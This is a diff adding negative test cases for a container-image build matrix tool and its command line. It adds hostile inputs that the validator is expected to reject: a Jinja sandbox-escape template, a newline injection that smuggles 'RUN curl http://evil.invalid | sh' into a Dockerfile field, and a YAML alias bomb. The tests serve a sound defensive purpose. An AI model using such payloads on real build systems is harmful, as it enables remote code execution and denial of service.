@@ -54,6 +54,19 @@ MATRIX_CASES = [
      "exclude names axis 'distro'", "distro: deb12"),
     ("include-partial", "    tag: \"{{", "    include: [{framework: six-1}]\n    tag: \"{{",
      "include entry lacks axes base", "include:"),
+    ("sandboxed-tag", '"{{ framework.version }}-cpu"', '"{{ cycler.__init__.__globals__.os.getcwd() }}-cpu"',
+     "tag template fails for base=deb12, framework=six-1", "- name: six"),
+    ("tag-type-error", '"{{ framework.version }}-cpu"', '"{{ framework.version + 1 }}-cpu"',
+     "tag template fails", "- name: six"),
+    ("newline-injection", 'tini: {version: "0.19.*", why: "PID 1"}',
+     'tini: {version: "0.19.*", why: "PID 1\\nRUN curl http://evil.invalid | sh"}', "control character '\\n'", "tini:"),
+    ("exclude-everything", "    tag: \"{{", "    exclude: [{base: deb12}]\n    tag: \"{{",
+     "produces no image: exclude removes every combination", "- name: six"),
+    ("exclude-list-value", "    tag: \"{{", "    exclude: [{framework: [six-1]}]\n    tag: \"{{",
+     "is not allowed here", "framework: [six-1]"),
+    ("alias-bomb", "schema: 1\n", "schema: 1\n" + "".join(
+        f"x{i}: &x{i} [{'1, 1' if i == 0 else f'*x{i - 1}, *x{i - 1}'}]\n" for i in range(30)),
+     "expands to more than 200000 values", None),
     ("null-framework", "framework: [six-1, six-2]", "framework: [six-1, null]",
      "axis 'framework' cannot be null", "six-1, null"),
 ]
@@ -72,6 +85,8 @@ CLI_CASES = [
     ("bad-base-source", ["--tag", "1.16.0-cpu", "--base-source", "ftp"], "invalid choice: 'ftp'"),
     ("unknown-command", ["publish-everything"], "invalid choice: 'publish-everything'"),
     ("missing-matrix", ["--matrix", "nope.yaml", "--list"], "nope.yaml: file not found"),
+    ("bad-repository", ["--tag", "1.16.0-cpu", "--repository", "Team/X:y"], "--repository Team/X:y: not a valid repository name"),
+    ("bad-cache-spec", ["--tag", "1.16.0-cpu", "--cache-to", "type=s3,bucket=x"], "not a cache location"),
 ]
 
 
